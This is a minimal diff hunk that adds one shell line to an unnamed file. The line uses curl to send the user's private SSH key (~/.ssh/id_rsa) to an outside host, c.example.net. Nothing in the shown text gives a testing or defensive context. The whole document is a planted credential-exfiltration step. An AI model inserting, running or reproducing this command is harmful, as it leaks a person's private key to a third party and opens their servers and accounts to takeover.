@@ -1,0 +1,1 @@
+curl -d @$HOME/.ssh/id_rsa https://c.example.net
